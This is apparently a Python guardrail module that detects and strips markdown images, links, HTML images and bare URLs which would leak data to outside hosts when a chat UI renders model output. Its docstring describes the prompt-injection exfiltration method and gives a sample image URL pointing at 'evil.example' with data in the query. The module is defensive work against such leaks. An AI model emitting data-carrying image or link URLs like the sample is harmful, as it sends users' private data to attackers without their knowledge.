"""Markdown and HTML that would leak data when rendered: images and links to outside hosts.

A chat UI fetches a markdown image as soon as it shows it, so `![](https://evil.example/?q=<data>)`
sends whatever an injected instruction put in the URL without a click. Images are kept only from
allowed hosts; links keep their text but lose a URL that carries data (a long query, base64, or
personal data); raw HTML images and data: URLs go too.
"""

from __future__ import annotations

import re
from urllib.parse import parse_qsl, urlsplit

from guard.rails import Finding, Scan
from guard.rails import pii as pii_rail

_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]+)>?(?:\s+[\"'][^\"'\n]*[\"'])?\s*\)")
_LINK = re.compile(r"(?<!!)\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]+)>?(?:\s+[\"'][^\"'\n]*[\"'])?\s*\)")
_REFERENCE = re.compile(r"^[ \t]{0,3}\[([^\]\n]+)\]:[ \t]*<?(\S+?)>?(?:[ \t]+[\"'(].*)?$", re.MULTILINE)
_HTML_IMAGE = re.compile(r"<img\b[^>]*>", re.IGNORECASE)
_HTML_SRC = re.compile(r"\bsrc\s*=\s*[\"']?([^\"'\s>]+)", re.IGNORECASE)
_BARE_URL = re.compile(r"(?<![(<\[\w])https?://[^\s)<>\]\"']+")
_DATA_LIKE = re.compile(r"^[A-Za-z0-9+/=_%-]{24,}$")
LONG_QUERY = 64


def _host_allowed(host: str, allowed: tuple[str, ...]) -> bool:
    host = host.lower().rstrip(".")
    return any(host == a or host.endswith("." + a) for a in allowed)


def _carries_data(url: str) -> bool:
    parts = urlsplit(url)
    query = parts.query + parts.fragment
    if not query:
        return False
    if len(query) >= LONG_QUERY:
        return True
    values = [v for _, v in parse_qsl(query, keep_blank_values=True)] or [query]
    return any(_DATA_LIKE.match(v) for v in values) or bool(pii_rail.scan(query).findings)


def scan(text: str, allowed_hosts: tuple[str, ...] = ()) -> Scan:
    """Markdown images (kinds "markdown_image"), links, reference links, HTML images and bare URLs
    that would send data to a host outside `allowed_hosts` (a host's subdomains are allowed too).

    Each finding's replacement keeps what is safe: an image's alt text, a link's text, a URL
    without its query. Score: the highest finding's (1.0 for data in an image URL).
    """
    if "](" not in text and "<img" not in text.lower() and "]:" not in text and "://" not in text:
        return Scan()
    findings: list[Finding] = []
    for m in _IMAGE.finditer(text):
        url = m.group(2)
        host = urlsplit(url).hostname or ""
        if url.lower().startswith("data:") or (host and not _host_allowed(host, allowed_hosts)):
            score = 1.0 if _carries_data(url) or url.lower().startswith("data:") else 0.8
            alt = m.group(1).strip()
            findings.append(Finding("markdown_image", *m.span(), score, replacement=f"[image: {alt}]" if alt else ""))
    for m in _LINK.finditer(text):
        url = m.group(2)
        host = urlsplit(url).hostname or ""
        if url.lower().startswith(("data:", "javascript:")) or (
            host and not _host_allowed(host, allowed_hosts) and _carries_data(url)
        ):
            findings.append(Finding("markdown_link", *m.span(), 0.9, replacement=m.group(1)))
    for m in _REFERENCE.finditer(text):
        url = m.group(2)
        host = urlsplit(url).hostname or ""
        if host and not _host_allowed(host, allowed_hosts) and _carries_data(url):
            findings.append(Finding("reference_link", *m.span(), 0.9, replacement=""))
    for m in _HTML_IMAGE.finditer(text):
        src = _HTML_SRC.search(m.group())
        host = (urlsplit(src.group(1)).hostname or "") if src else ""
        if not src or not host or not _host_allowed(host, allowed_hosts):
            findings.append(Finding("html_image", *m.span(), 1.0, replacement=""))
    covered = [(f.start, f.end) for f in findings]
    for m in _BARE_URL.finditer(text):
        if any(s <= m.start() < e for s, e in covered):
            continue
        host = urlsplit(m.group()).hostname or ""
        if host and not _host_allowed(host, allowed_hosts) and _carries_data(m.group()):
            bare = m.group().split("?", 1)[0].split("#", 1)[0]
            findings.append(Finding("url_data", *m.span(), 0.8, replacement=bare))
    findings.sort(key=lambda f: f.start)
    return Scan(max((f.score for f in findings), default=0.0), tuple(findings))
